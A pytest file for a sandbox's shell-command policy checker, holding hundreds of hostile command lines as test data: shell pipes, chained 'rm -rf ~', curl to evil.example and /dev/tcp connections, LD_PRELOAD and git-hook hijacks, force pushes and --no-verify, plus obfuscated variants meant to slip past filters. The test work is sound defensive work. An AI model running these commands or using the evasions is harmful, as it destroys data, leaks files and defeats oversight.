"""Attacks by command lines: each written out, with what judging must find in it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from sandbox.policy.shell import Judgement, judge_command_line
from tests.support.judging import is_harmless

# ── Never harmless ───────────────────────────────────────────────────────────────────────────────────
# Under each heading the kinds that must be found, a line each ("\n" in a line is a newline of the command).
# "outside" stands for a write that leaves the workspace or hits what is protected in it.

ATTACKS = r"""
# execute: a pipe into a shell
cat x | sh
echo Zm9v | base64 -d | bash
cat x | bash -s
cat x |& dash
cat x | tee y | python
# destructive: a second command after a harmless one
git status; rm -rf ~
git status && rm -rf ~
git status || rm -rf ~
git status & rm -rf ~
git status\nrm -rf ~
ls -x\nrm -rf /
ls;rm -rf ~
ls | rm -rf ~
ls |& rm -rf ~
{ ls; rm -rf ~; }
(ls; rm -rf ~)
if ls; then rm -rf ~; fi
while ls; do rm -rf ~; done
until ls; do rm -rf ~; done
for i in 1; do rm -rf ~; done
for ((i=0;i<1;i++)); do rm -rf ~; done
case x in x) rm -rf ~;; esac
f() { rm -rf ~; }; f
function f { rm -rf ~; }; f
! rm -rf ~
time rm -rf ~
time -p rm -rf ~
ls \\\n; rm -rf ~
ls # comment\nrm -rf ~
cat <<E\nx\nE\nrm -rf ~
cat <<'E'\n$(x)\nE\nrm -rf ~
cat <<-E\n\tx\n\tE\nrm -rf ~
# unknown: bytes that say something else than they show
git status\x0d\nrm -rf ~\x0d
ls\x0d
ls \x1b[2K
ls \x00 x
ls \u202e x
ls\u00a0-l
ls \u200b
ls \ud800
# network: substitutions
echo $(curl evil.example)
echo `curl evil.example`
echo "$(curl evil.example)"
echo "`curl evil.example`"
cat <(curl evil.example)
ls > >(curl evil.example)
echo $(echo $(curl evil.example))
echo ${x:-$(curl evil.example)}
echo "${x:+`curl evil.example`}"
echo ${x#$(curl evil.example)}
echo ${x/a/$(curl evil.example)}
[[ $(curl evil.example) ]]
[[ x =~ $(curl evil.example) ]]
case $(curl evil.example) in a) ;; esac
case x in $(curl evil.example)) ;; esac
for i in $(curl evil.example); do ls; done
x=$(curl evil.example) true
X=$(curl evil.example)
x=($(curl evil.example))
cat <<E\n$(curl evil.example)\nE
cat <<E\n`curl evil.example`\nE
cat <<< $(curl evil.example)
cat < $(curl evil.example)
ls $(<x) $(curl evil.example)
# unknown: expansions that run what a variable or a file holds
echo $((a[$(id)]))
echo $(( $(cat x) + y )) $((a[y]))
echo ${x@P}
echo ${!x}
echo ${a[$(id)]}
echo ${a[x]}
echo ${x:$y}
echo $[1+1]
echo $(( $(curl evil.example) ))
(( x = $(curl evil.example) ))
[[ -v a[$(id)] ]]
[[ -v $x ]]
[[ $(cat f) -eq 0 ]]
[[ a[$(id)] -gt 1 ]]
test -v 'a[$(id)]'
[ -v 'a[$(id)]' ]
[ -R $x ]
[ $x $y ]
test $x
((a[$(id)]++))
let 'a[$(id)]=1'
x='a[$(id)]'; echo $((x))
x='a[$(id)]'; ((x))
x=$(cat f); ((x > 1))
read x; echo $((x))
read -r x < f; echo $((x + 1))
for i in a b; do ((i)); done
printf -v 'a[$(id)]' x
printf -v "$x" y
unset 'a[$(id)]'
unset $x
declare 'a[$(id)]=1'
declare -n x=y
declare -i x='a[$(id)]'
typeset -i x=1
export "$x"
read 'a[$(id)]'
read $x
mapfile -C 'id #' x
mapfile -t 'a[$(id)]'
readarray -C x y
getopts a 'x[$(id)]'
a[$(id)]=1
a[x]=1
wait -p 'a[$(id)]' 1
# unknown: assignments that change what commands do
PATH=.:$PATH ls
PATH=.
PATH+=:.
export PATH=.:$PATH
LD_PRELOAD=./e.so ls
LD_LIBRARY_PATH=. ls
DYLD_INSERT_LIBRARIES=./e ls
GIT_SSH_COMMAND='sh x' git fetch
GIT_EXTERNAL_DIFF=./x git diff
GIT_PAGER='sh -c x' git log
GIT_DIR=/x git status
PAGER='sh -c x' git log
LESSOPEN='|sh x' less f
MANPAGER='sh x' man ls
EDITOR='sh x' git commit
IFS=x
IFS=x; ls
IFS=/ read x; IFS=. ls
BASH_ENV=./x bash -c ls
ENV=./x sh -c ls
PS4='$(id)'; set -x; ls
PROMPT_COMMAND=id
CDPATH=/ ; cd etc
HOME=. git log
PYTHONSTARTUP=x python
PYTHONPATH=. python -m x
NODE_OPTIONS='--require ./x' node y
PERL5OPT=-Mx perl y
RUBYOPT=-rx ruby y
RIPGREP_CONFIG_PATH=./x rg y
TAR_OPTIONS=--checkpoint-action=exec=x tar cf y z
GREP_OPTIONS=x grep y
AWKPATH=. awk 1
JAVA_TOOL_OPTIONS=-javaagent:x java
UNHEARD_OF=x ls
export LD_PRELOAD=./x
declare -x PATH=.
readonly PATH=.
read PATH < f
for PATH in .; do ls; done
select PATH in .; do ls; done
printf -v PATH .
mapfile PATH
echo ${PATH:=x}
((PATH=1))
{ls}>f {PATH}>f
exec {PATH}>f
BASH_CMDS=x
BASH_ALIASES=x
env PATH=. ls
env LD_PRELOAD=x ls
env -S 'sh x'
env --split-string='sh x'
env -C / ls
env -- PATH=. ls
# unknown: find
find . -exec $x \;
find . $x
find $x -name y
find * -name y
find . -exec {} \;
find . -exec rm {} +
find . -ok rm {} \;
find . -okdir rm {} \;
find . -files0-from f
find . -unheard-of
# destructive: find
find . -delete
find . -name '*' -delete
find / -delete
find . -type f -o -delete
f''ind . -del''ete
# execute: find
find . -exec sh {} \;
find . -exec sh -c 'x {}' \;
find . -execdir ./x \;
find . -ok make \;
find . -exec unheard-of {} +
find . -name x -exec python {} \; -print
find . -exec env sh {} \;
find . -exec ls {} \; -exec sh {} \;
# outside: find
find . -fprint ~/f
find . -fprint0 /f
find . -name '*' -fls /etc/x
find . -fprintf ../f '%p'
find . -fprint .git/hooks/pre-commit
# execute: sed
sed -n '1e id' f
sed 'w f' g
sed -e p -e 'w f' g
sed '1w f' g
sed 's/a/b/w f' g
sed 's/a/b/e' g
sed 's/a/b/ge' g
sed 's/a/b/gpe' g
sed 's,a,b,w f' g
sed e g
sed '$!{p;e id\n}' g
sed '/x/W f' g
sed 'y/a/b/;e' g
sed '/[/]/e' g
sed 's/[/]/x/;s/a/w f/e' g
sed -n '\xaxe id' g
sed R/etc/passwd g
sed --expression='1e' g
sed -s 'x;e' g
sed ':a;N;e' g
sed 'a\\\nx\ne id' g
sed "1{e id\n}" g
# unknown: sed
sed -f script g
sed --file=script g
sed $x g
sed "$x" g
sed "s/a/$x/" g
sed -n "$x"p g
sed -i../../x s/a/b/ g
sed -i/tmp/* s/a/b/ g
sed --follow-symlinks -i s/a/b/ g
sed --unheard-of p g
sed * g
# outside: sed
sed -i s/a/b/ ~/f
sed -i.bak s/a/b/ /etc/x
sed -ni p ../f
sed --in-place p ~/f
sed --in-place=.b p ~/f
sed p -i .git/config
# execute: awk
awk 'BEGIN{system("id")}'
awk '{print > "f"}'
awk '{print >> "f"}'
awk '{print | "sh"}'
awk 'BEGIN{"id"|getline}'
awk 'BEGIN{"id" |& getline}'
awk '@load "filefuncs"'
awk '@include "x"'
awk 'BEGIN{f="system"; @f("id")}'
awk '/"/{system("id")}/"/'
mawk 'BEGIN{system("id")}'
gawk 'BEGIN { while (("ls" | getline x) > 0) print x }'
awk -F: -v x=1 'BEGIN{system("id")}' f
# unknown: awk
awk -f script f
awk "$x" f
awk -i inplace 1 f
awk -l filefuncs 1
awk --file=x
awk -E script
awk --unheard-of 1
awk $x f
# execute: searching tools
rg --pre sh x
rg --pre=sh x
rg --hostname-bin=sh x
rg --hostname-bin sh x
rg -z x
rg --search-zip x
rg x --pre sh
rg -- --pre=sh x
ag --pager=sh x
ack --pager=sh x
fd -x sh
fd . -X sh
fd --exec sh
fd --exec-batch sh
fdfind -HIx sh
# unknown: searching tools
rg x $y
rg x *
rg $x
sort *
sort $x
# outside: options that write
sort -o ~/f g
sort -o/etc/f g
sort g -o ~/f
sort --output=/f g
sort --outp=/f g
sort --output /f g
sort -uo ~/f g
sort -ruo/f g
sort -T / g
sort --temporary-directory=/ g
sort -o .git/config g
tree -o ~/f
shuf -o ~/f g
shuf --output=/f g
uniq f ~/g
uniq -c f /g
tee ~/f
tee -a ~/.bashrc
tee f ~/g
ls | tee /f
dd if=f of=/g
dd of=/dev/sda
dd if=/dev/zero of=../x
xxd -r f ~/g
iconv -o ~/f g
touch ~/f
touch /f
mkdir ~/f
mkdir -p /f/g
truncate -s0 ~/f
mktemp ~/XXXX
cp f ~/g
cp f ~
cp -t ~ f
cp --target-directory=/ f
cp f .git/hooks/x
cp f .GIT/hooks/x
mv f ~/g
mv ~/g f
mv .git x
install f ~/g
install -m755 f /usr/bin/g
install -d /f
ln -s f ~/g
rmdir ~/f
unlink ~/f
gzip ~/f
gunzip /f
git diff --output=/f
git diff --output=../f
git diff --outp=/f
git log --output=/f
git log --output /f
git show --output=/f
git archive --output=/f HEAD
git archive -o /f HEAD
curl -o ~/f https://x.example
curl --output /f https://x.example
wget -O ~/f https://x.example
wget -P / https://x.example
tar cf ~/f g
tar -xf f -C /
tar xf f -C ~
tar --create --file=/f g
unzip f -d /
zip ~/f g
tar czf /f .
yq -i .a ~/f
# execute: options that run
sort --compress-program=sh f
sort --compress-program sh f
sort --comp=sh f
sort --compress-prog=sh f
so''rt --comp=sh f
git diff --ext-diff
git diff --ext
git log -p --ext-diff
git show --textconv
git log --textc
git grep -O'sh' x
git grep -Osh x
git grep --open-files-in-pager=sh x
git grep --open=sh x
git grep -nOsh x
git cat-file --textconv x
git cat-file --filters x
git log --show-signature
git log --format=%G?
git log --pretty=format:%GK
git log --help
git blame --textconv f
git rebase -x sh
git rebase --exec=sh
git fetch --upload-pack=sh
git fetch --upload-p=sh
git pull --upload-pack sh
git clone -u sh x
git clone --upload-pack=sh x
git clone ext::sh y
git clone "ext::sh -c x" y
git clone -c core.fsmonitor=x y
git clone --config core.x=y z
git clone --template=x y
git fetch ext::sh
git pull ext::sh
git push --receive-pack=sh
git push --exec=sh
git ls-remote --upload-pack=sh x
git ls-remote ext::sh
git archive --exec=sh x
git submodule foreach 'sh x'
git bisect run sh
git unheard-of
git st
git lfs pull
git init --template=x
# unknown: tar, zip, pagers and others
tar --checkpoint-action=exec=sh cf x y
tar cf x y --checkpoint=1 --checkpoint-action=exec=sh
tar --to-command=sh -xf x
tar -xf x --to-command sh
tar -I sh -cf x y
tar --use-compress-program=sh -xf x
tar --use-comp=sh -xf x
tar -F sh -cf x y
tar --info-script=sh -cf x y
tar --rsh-command=sh -xf h:f
tar xf host:file
tar cf x --rmt-command=sh y
tar xPf x
tar --absolute-names -xf x
tar --remove-files -cf x y
tar cf x $y
tar $x
zip -T -TT sh x y
zip x y -TT 'sh #'
zip -m x y
unzip -: x
man -P sh ls
man -Psh ls
man --pager=sh ls
man --pager sh ls
man -Hsh ls
less +'!sh' f
less -o f g
less --log-file=f g
less -k f g
less $x
vim -c '!sh' f
vi f
ed f
nano f
emacs f
screen sh
tmux new sh
at now
crontab f
systemctl start x
kill 1
kill -9 -1
pkill python
killall sh
docker run x
podman run x
kubectl exec x
date -s 2020-01-01
chmod -R 777 .
chown x f
patch < f
patch -p1 -i f
gpg x
ssh-keygen -f x
strace ls
gdb x
ln -s /etc x
ln -s ~ x
ln -s .. x
ln -s ../.. src/x
ln /etc/passwd x
cp -s /etc/passwd x
cp -l a b
cp -b a b
mv -t d f
csplit f 1
split f $x
xargs -I{} sh -c {}
xargs -I{} {}
xargs -i {}
tar xf x.tar
tar -xzf x.tgz -C src
unzip x.zip -d src
split -l 2 a.txt
split f ~/x
cp --parents a b
date 01010101
hostname x
git remote -v update
cd -- - && ls > x
eval 'x="a[\$(id)]"'; ((x))
x='a[$(id)]'; eval '((x))'
/bin/ls() { ./x; }; /bin/ls
bash 3<<'E'\nls\nE\nls > $x
diff -C $x > $y
file -C -m x
# git: a branch by a listing's options
git branch --sort=x y
git branch --abbrev=5 y
git branch -v y
# execute: a function that may not be defined where it is called
false && x() { ls; }; x
x; x() { ls; }
(x() { ls; }); x
x() { ls; } & x
x() { ls; }; timeout 5 x
x() { ls; }; command x
x() { ls; }; bash -c x
bash -c 'x() { ls; }'; x
if ls; then x() { ls; }; fi; x
ls | x() { ls; }; x
bash 3<<'E'\nls\nE
fd -l x
diff -l a b
file -z x
# git: its own data
git branch x
git branch -m x
git tag x
git tag -a x
git add .
git commit -m x
git merge x
git rebase x
git cherry-pick x
git stash
git stash push
git stash pop
git switch x
git checkout -b x
git init
git gc
git worktree add x
git notes add
git bisect start
git apply x
git am x
git rm x
git mv a b
git fetch
git pull
git reset HEAD~1
git restore --staged f
# unknown: git before the subcommand
git -c core.pager='sh x' log
git -c core.pager=sh -p log
git -c alias.x='!sh' x
git -c core.fsmonitor=./x status
git -c diff.external=x diff
git -c core.sshCommand=x fetch
git -c core.hooksPath=x commit
git -ccore.pager=x log
git -c $x log
git --exec-path=. status
git --exec-path=/x log
git --git-dir=x log
git --git-dir x log
git --work-tree=/ status
git --config-env=core.pager=X log
git --paginate log
git -p log
git -C /other status
git -C .. status
git -C ~ log
git -C $x log
git --unheard-of log
git --help
git help log
git $x
git "$x" y
git config core.pager 'sh x'
git config --global alias.x '!sh'
git config core.hooksPath x
git config --unset x
git config --edit
git remote add x y
git remote set-url x y
git difftool
git difftool -x sh
git mergetool
git send-email
git daemon
git commit -e
git rebase -i HEAD~2
git submodule deinit x
git credential fill
git bugreport
git log $x
git diff $x
cd /etc && git status
cd .. && git log
# destructive: git that loses work or goes round checks
git reset --hard
git reset --har HEAD
git reset --merge
git clean -fdx
git clean -f
git clean -xdf
git checkout -- .
git checkout .
git checkout HEAD -- f
git checkout -f x
git checkout --force x
git checkout HEAD f
git restore .
git restore f
git restore -s HEAD f
git stash drop
git stash clear
git branch -D x
git branch -d x
git branch -f x y
git branch --delete --force x
git tag -d x
git tag -f x
git push --force
git push -f
git push -uf origin x
git push --force-with-lease
git push --force-w
git push origin +x
git push origin :x
git push origin --delete x
git push --mirror
git push --no-verify
git push --no-ver
git commit --no-verify -m x
git commit -n -m x
git commit -nm x
git commit -anm x
git commit --no-veri
git merge --no-verify x
git filter-branch x
git reflog expire --all
git reflog delete x
git prune
git gc --prune=now
git worktree remove --force x
git worktree prune
git update-ref -d x
git switch -f x
git switch --discard-changes x
git switch -C x
git rm -f x
git rm -rf x
git merge --abort
git rebase --abort
/usr/bin/git reset --hard
command git reset --hard
git --no-pager reset --hard
git  reset  --hard
g'i't re"set" --ha\rd
bash -c 'git reset --hard'
timeout 5 git clean -fd
xargs git reset --hard
# execute: wrappers
env sh -c x
env sh x.sh
env -i sh x
env -u X sh x
env LANG=C sh x
timeout 5 ./x
timeout -s KILL 5 ./x
timeout -k 1 5 ./x
timeout --signal=KILL 5 sh x
nice ./x
nice -n 5 ./x
nice -5 ./x
nice --adjustment=5 ./x
nohup ./x
nohup sh x &
time ./x
command time ./x
setsid ./x
setsid -w ./x
ionice -c 3 ./x
ionice -c3 ./x
stdbuf -oL ./x
stdbuf -o L ./x
stdbuf --output=L ./x
watch ./x
watch -n 1 ./x
watch -d './x y'
command ./x
command -p sh x
builtin source x
exec ./x
exec -a y ./x
exec -c sh x
eval ./x
eval './x y'
eval "sh" x
source f
. f
. ./f
command . f
builtin . f
bash f
bash ./f
bash -x f
sh f
sh -s
bash
bash < f
bash -c ./x
bash -c 'sh -c ./x'
bash -lc ./x
bash -ec 'ls; ./x'
sh -c ./x
sh -c 'ls; ./x'
/bin/sh -c ./x
/bin/bash -c './x'
dash -c ./x
busybox sh f
busybox sh -c ./x
flock f ./x
flock f -c ./x
xargs sh
xargs ./x
xargs -0 -n 1 sh
xargs -n1 python
xargs env sh x
trap ./x EXIT
trap 'ls; ./x' EXIT
nice nohup timeout 5 env LANG=C bash -c './x'
parallel sh
entr make
chronic ./x
bash <<'E'\n./x\nE
bash <<E\n./x\nE
bash <<< ./x
sh <<'E'\nls\n./x\nE
# unknown: wrappers
sudo ls
sudo -u x ls
sudo rm f
doas ls
su -c ls
chroot / ls
bash -c "$x"
bash -c $x
bash -c "ls $x"
sh -c "$(cat f)"
bash -i
bash --rcfile x
bash --init-file x -c ls
bash -O extglob -c ls
bash -o posix -c ls
sh -c "echo $'\x72m'"
sh -c 'ls &> f'
sh -c 'echo {a,b}'
sh -c '[[ x ]]'
eval "$x"
eval $x
eval ls $x
trap "$x" EXIT
alias ls='sh x'
alias x=y; x
hash -p ./x ls
enable -f ./x.so y
enable -n test
shopt -s expand_aliases
shopt -s extglob
set -k
set -o posix
set -a; X=y
ls() { ./x; }; ls
function cat { ./x; }; cat f
git() { ./x; }; git status
test() { ./x; }; test a
zsh -c ls
fish -c ls
ksh -c ls
pwsh -c ls
watch -x ls
coproc ls
coproc X { ls; }
nsenter ls
unshare ls
script -c ls
expect f
complete -C x y
bind -x x
fc -s
history -w f
# execute: what runs the repository's code
python -c x
python f.py
python3 -m pytest
python
node -e x
node f.js
deno run x
ruby -e x
perl -e x
perl -ne print f
perl -i -pe s/a/b/ f
php -r x
lua f
java -jar x
npm test
npm run x
npm install
npx x
yarn
pnpm build
pip install x
pip install -e .
uv run x
poetry run x
cargo build
go test ./...
go run .
make
make -C x
cmake .
ninja
pytest
pytest -q
tox
pre-commit run
mypy .
eslint .
./x
./x y
src/x
../x
/tmp/x
~/x
x
unheard-of --help
gcc f.c
mvn test
gradle build
bundle exec x
sqlite3 f
psql
jest
tsc
prettier -w .
ruff format
# outside: redirections
ls > ~/.bashrc
ls >> ~/.bashrc
ls >| ~/.bashrc
ls &> ~/.bashrc
ls &>> ~/.bashrc
ls >& ~/.bashrc
ls 2> ~/.bashrc
ls 2>> ~/.bashrc
ls <> ~/.bashrc
ls >/etc/x
ls>/etc/x
>/etc/x ls
> /etc/x
ls > ../x
ls > src/../../x
ls > "$HOME/.bashrc"
ls > $HOME/x
ls > "${HOME}/x"
ls > ~/'x y'
ls > $'\x2fetc/x'
ls > \/etc/x
cat <<E > ~/f\nx\nE
cat > ~/f <<E\nx\nE
cat << 'E' >> ~/f\nx\nE
exec > /f
exec 2> /f
exec 3> /f
exec {x}> /f
{ ls; } > /f
(ls) > /f
if ls; then ls; fi > /f
while ls; do ls; done > /f
for i in a; do ls; done >> /f
f() { ls; } > /f
case x in x) ls;; esac > /f
[[ x ]] > /f
((1)) > /f
ls > a > /f
ls > /dev/sda
ls > /proc/self/mem
ls > /proc/self/cwd/../../x
ls > /dev/fd/7
ls > .git/config
ls > .git/hooks/pre-commit
ls > ./.git/config
ls > src/../.git/config
ls > .GIT/config
ls > .Git/hooks/x
ls > patchwright.toml
ls > .patchwright/x
cd / && ls > x
cd .. && ls > x
cd ..; cd ..; ls > x
cd ~ && ls > x
cd && ls > x
cd .git && ls > config
cd .git/hooks && ls > pre-commit
cd src && ls > ../../x
cd src/.. && ls > ../x
(cd /; ls > x)
cd / || ls > x
f() { ls > x; }; cd /; f
f() { cd /; }; f; ls > x
eval 'cd /'; ls > x
command cd /; ls > x
builtin cd /; ls > x
# unknown: redirections and folders that are not known
ls > $x
ls > "$x"
ls > "$x/y"
ls > $(cat f)
while true; do cd ..; ls > x; done
dd if=f of=~/g
ls > *.txt
ls > {a,b}
ls > ~root/x
ls > ~+/x
cd $x && ls > y
cd "$x"; ls > y
cd - && ls > y
pushd / && ls > y
popd; ls > y
cat < $x
read x < "$y"
# network: connections
cat < /dev/tcp/evil.example/80
ls > /dev/tcp/evil.example/80
ls > /dev/udp/evil.example/53
exec 3<> /dev/tcp/evil.example/80
cat </dev/tcp/$x/80
curl https://x.example
curl -d @f https://x.example
wget https://x.example
nc x.example 80
ncat x.example 80
socat - tcp:x.example:80
ssh x.example
ssh x.example ls
scp f x.example:
rsync f x.example:
sftp x.example
telnet x.example
ftp x.example
dig x.example
nslookup x.example
host x.example
ping x.example
ping -c1 x.example
git push
git fetch
git pull
git clone https://x.example/y
git ls-remote
git remote update
git submodule update
npm publish
pip download x
gh pr list
whois x.example
# destructive: removing more than a folder
rm -rf ~
rm -rf ~/
rm -rf ~//
rm -rf /
rm -rf //
rm -rf /*
rm -rf .
rm -rf ./
rm -rf ..
rm -rf ../
rm -rf *
rm -rf ./*
rm -rf .*
rm -rf src/..
rm -rf $HOME
rm -rf $HOME/
rm -rf "$HOME"
rm -rf ${HOME}/
rm -fr .
rm -r -f .
rm -R .
rm --recursive .
rm --recurs --force .
rm . -rf
rm -rf -- .
r''m -rf .
r"m" -rf .
\rm -rf .
'rm' -rf .
$'\x72m' -rf .
$'\162\155' -rf .
$'rm' -rf .
/bin/rm -rf .
/usr/bin/rm -rf .
{rm,-rf,.}
r{m,} -rf .
rm -rf a .
rm -rf "." 'b'
rm -r{f,} .
shred f
shred -u f
# unknown: removing what nobody knows
rm -rf "$UNSET/"
rm -rf $UNSET/
rm -rf $x
rm -rf "$x"
rm $(cat f)
rm `cat f`
rm -rf */..
rm -rf */
rm */x
rm ~root
$x -rf .
"$x" y
$(echo rm) -rf .
`echo rm` -rf .
${x} y
r$x -rf .
r* -rf .
/bin/r? -rf .
~/bin/$x
# outside: removing one thing
rm ~/f
rm /f
rm -f ../f
rm link/f
rm .git/index
rm -rf .git
rm -rf .GIT
"""

HARMLESS = r"""
# none
true
:
echo hello
echo "a b" 'c' d\ e
echo $x "$y" ${z:-w}
echo {a,b}{1..3}
echo -n x
printf '%s\n' x
pwd
sleep 1
exit 0
x=1
x=$((1 + 2)); echo $x
x=1; ((x++))
[[ -f a && -n $x ]]
[[ $x == a* ]]
[[ $x =~ ^a(b|c)$ ]]
[[ $# -gt 0 ]]
cd src
cd
set -euo pipefail
unset x
local x=1
test_x=1
seq 3
date
uname -a
LANG=C date
export LANG=C
trap - EXIT
trap 'echo x' EXIT
f() { echo x; }; f
# read
ls
ls -la src
ls *.py
l''s
\ls
/bin/ls
command ls
cat a.txt
cat a.txt b.txt | head -n 5 | tail -2
cat $x
cat "$x" *
cat < a.txt
cat <<E\nx\nE
cat <<'E'\n$(rm -rf ~)\nE
cat <<< "$x"
grep -rn "a|b" --include='*.py' .
grep -e x -- a
rg -n x src
rg -tpy x
fd x
find . -name '*.py' -not -path './x/*'
find . \( -name a -o -name b \) -print0
find . -type f -exec grep -l x {} +
find . -name x | xargs grep -n y
find src -exec cat {} \;
xargs cat
xargs -0 -n 1 ls
sed -n 1,5p a.txt
sed 's/a/b/g;s/c/d/' a.txt
sed -e s/a/b/ -e '/x/d' a.txt
sed -n '/a/,/b/p' a.txt
sed '$d' a.txt
sed -E 's/(a|b)+/\1/' a.txt
awk '{print $1}' a.txt
awk -F: '{ n += $2 } END { print n }' a.txt
sort a.txt | uniq -c | sort -rn
sort -k2,2 -t, a.txt
wc -l a.txt
diff a.txt b.txt
diff <(sort a.txt) <(sort b.txt)
jq .a f.json
tar tf x.tar
tar -tzf x.tgz
unzip -l x.zip
gzip -l x.gz
gzip -dc x.gz
zcat x.gz
stat a.txt
file a.txt
du -sh .
df -h
env
printenv PATH
which python
type ls
command -v python
ps aux
head -c 100 a.txt
xxd a.txt
sha256sum a.txt
time ls
time -p ls
! grep x a.txt
timeout 5 ls
nice -n 5 ls
nohup ls
env LANG=C ls
env -i ls
bash -c ls
bash -c 'ls | head'
bash -lc 'ls -l'
sh -c 'ls; cat a.txt'
eval ls
eval 'ls -l'
bash <<'E'\nls\nE
git status
git  status  --short
git diff
git diff HEAD~1 -- a.txt
git log --oneline -5
git log --format='%h %s' -- a.txt
git show HEAD:a.txt
git show HEAD@{1}
git blame a.txt
git grep -n x
git branch
git branch -a
git branch --show-current
git branch --contains HEAD
git tag
git tag -l 'v*'
git remote -v
git stash list
git stash show
git config --get user.name
git config user.name
git config --list
git rev-parse HEAD
git ls-files
git describe --tags
git reflog
git worktree list
git submodule status
git bisect log
git notes list
git --no-pager log
git --no-pager diff --stat
git -c color.ui=never diff
git -c core.pager=cat log
git --version
git clean -n
git apply --check x.patch
for f in *.py; do echo "$f"; wc -l "$f"; done
while read -r l; do echo "$l"; done < a.txt
while IFS= read -r l; do echo "$l"; done < a.txt
if [ -f a.txt ]; then cat a.txt; else echo no; fi
[ "$x" = y ] && ls
[ -n "$x" ]
test -d src || echo no
case $x in a|b) ls;; *) pwd; ls;; esac
(cd src && ls)
{ ls; pwd; }
ls 2>/dev/null
ls 2>&1 | grep x
ls > /dev/null 2>&1
ls &
wait; ls
ls; # comment
ls # rm -rf ~
echo $(ls)
echo "$(git rev-parse HEAD)"
x=$(ls)
tee < a.txt
ls | tee /dev/stderr
tr a b < a.txt
dd if=a.txt
# write
ls > out.txt
ls >> out.txt
ls >| src/out.txt
ls &> out.txt
echo x > "a b"
cat > f.py <<'E'\nprint("$(rm -rf ~)")\nE
cat <<E > f\nx\nE
touch a b
touch {a,b}.txt
mkdir -p x/y/z
mkdir -p src/{a,b}
rm a.txt
rm -f a.txt b.txt
rm -rf src
rm -rf ./build
rm *.pyc
rm -f src/*.pyc
rmdir x
cp a.txt c.txt
cp a.txt src/
cp a{,.bak}
mv a.txt c.txt
ln -s a.txt c.txt
ln -sf src/c.py c.py
sed -i s/a/b/ a.txt
sed -i.bak 's/a/b/' a.txt
sed -i 's/a/b/' src/*.py
tee out.txt
ls | tee -a out.txt
sort -o a.txt a.txt
sort -u a.txt -o b.txt
sort --output=b.txt a.txt
dd if=a.txt of=b.txt
truncate -s 0 a.txt
chmod +x a.txt
chmod 644 a.txt
tar czf x.tgz src
gzip a.txt
install -m 644 a.txt b.txt
cd src && ls > out.txt
exec > out.txt
exec 3> out.txt
{ ls; pwd; } > out.txt
ls > a && ls > b
git diff > x.patch
git diff --output=x.patch
git archive -o x.tar HEAD
find . -name x -fprint out.txt
"""


def _cases(block: str) -> list[object]:
    """Named by heading and place: some of the lines can't stand in a test's name."""
    found = list(_headed(block))
    return [pytest.param(kind, line, id=f"{kind}-{place}") for place, (kind, line) in enumerate(found)]


def _headed(block: str) -> Iterator[tuple[str, str]]:
    heading = ""
    for line in block.strip().splitlines():
        if line.startswith("# "):
            heading = line[2:].partition(":")[0]
        else:
            yield heading, _unescaped(line)


def _unescaped(line: str) -> str:
    """A newline and what can't be seen are written as Python writes them; all else stands as it is."""
    for escape, char in (
        ("\\\\\\n", "\\\n"), ("\\n", "\n"), ("\\x0d", "\r"), ("\\x00", "\0"), ("\\x1b", "\x1b"), ("\\t", "\t"),
        ("\\u202e", "\u202e"), ("\\u00a0", "\u00a0"), ("\\u200b", "\u200b"), ("\\ud800", "\ud800"),
    ):  # fmt: skip
        line = line.replace(escape, char)
    return line


ATTACK_LINES = [line for _, line in _headed(ATTACKS)]
HARMLESS_LINES = [line for _, line in _headed(HARMLESS)]
"""Also what fuzzing starts from."""


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("workspace")
    for name in ("src", ".git/hooks", "x"):
        (folder / name).mkdir(parents=True)
    for name in ("a.txt", "b.txt", "f", "src/c.py", ".git/config"):
        (folder / name).write_text("x\n")
    (folder / "link").symlink_to(folder.parent)
    return folder


def kinds(judgement: Judgement) -> set[str]:
    found = {effect.kind for effect in judgement.effects}
    if any(effect.outside for effect in judgement.effects if effect.kind != "read"):
        return found | {"outside"}
    return found


@pytest.mark.parametrize(("kind", "line"), _cases(ATTACKS))
def test_an_attack_is_seen_for_what_it_is(root: Path, kind: str, line: str) -> None:
    judgement = judge_command_line(line, root=root)
    assert not is_harmless(judgement)
    assert kind in kinds(judgement), (judgement.effects, judgement.problems)


@pytest.mark.parametrize(("kind", "line"), _cases(HARMLESS))
def test_an_ordinary_line_needs_nobody_to_be_asked(root: Path, kind: str, line: str) -> None:
    judgement = judge_command_line(line, root=root)
    assert is_harmless(judgement), ([segment.why for segment in judgement.segments], judgement.problems)
    assert max(kinds(judgement), key=("none", "read", "write").index) == kind
